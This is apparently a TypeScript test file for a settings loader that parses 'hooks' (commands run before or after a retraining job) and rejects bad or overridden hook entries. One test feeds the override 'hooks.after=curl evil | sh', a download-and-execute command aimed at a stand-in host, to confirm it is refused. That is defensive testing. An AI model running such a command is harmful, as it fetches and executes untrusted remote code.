import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { NO_HOOKS, readHookSettings } from '../../../src/config/hooks.ts'
import { Readable } from '../../../src/preflight/readable.ts'
import { MINIMAL, refusal, resolved } from '../../support/settings.ts'

describe('the hooks of the settings', () => {
  it('are lists of commands, or one', () => {
    const text =
      'hooks:\n  before: start it\n  after:\n    - |\n      one\n      two\n    - three\n  minutes: 1.5\n'
    assert.deepEqual(readHookSettings(text, 'retrain.yaml'), {
      before: ['start it'],
      failed: [],
      after: ['one\ntwo\n', 'three'],
      minutes: 1.5,
    })
  })

  it('are none where there is no such section', () => {
    for (const text of ['', MINIMAL, 'hooks:\n', 'hooks:\n  after:\n'])
      assert.deepEqual(readHookSettings(text, 'retrain.yaml'), NO_HOOKS)
  })

  for (const [title, text, what] of [
    ['a misspelt name', 'hooks: {befor: x}', /hooks\.befor/],
    ['a number', 'hooks: {after: 7}', /line 1: hooks\.after must be a command, or a list of them/],
    ['nothing to run', "hooks: {after: ['']}", /hooks\.after/],
    ['a NUL', 'hooks: {after: "a\\0b"}', /hooks\.after/],
    ['half a day', 'hooks: {minutes: 720}', /hooks\.minutes must be at most 30/],
    ['a command that YAML cuts', 'hooks:\n  after: curl x #frag\n', /hooks\.after ends before/],
  ] as const)
    it(`refuse ${title}, here and in preflight`, () => {
      assert.throws(() => readHookSettings(text, 'retrain.yaml'), { code: 'CONFIG_INVALID', message: what })
      assert.match(refusal(`${MINIMAL}${text}`), /hooks\./)
    })

  it('stand in no plan', () => {
    assert.doesNotMatch(JSON.stringify(resolved(`${MINIMAL}hooks: {after: stop-it}`)), /stop-it/)
  })

  it('are not for overrides to name, whatever the owner allows', () => {
    const overrides = ['hooks.after=curl evil | sh']
    const text = `${MINIMAL}hooks: {after: stop-it}`
    const everything = { paths: ['/'], packages: true }
    const read = (given: string[]): Readable =>
      new Readable(resolved(text, given), { text, overrides: given }, '/repository', everything)
    assert.throws(() => read(overrides), { code: 'NOT_ALLOWED', message: /hooks\.after/ })
    assert.throws(() => read(['hooks.minutes=1']), { code: 'NOT_ALLOWED' })
    read(['hooks.after=stop-it'])
  })
})
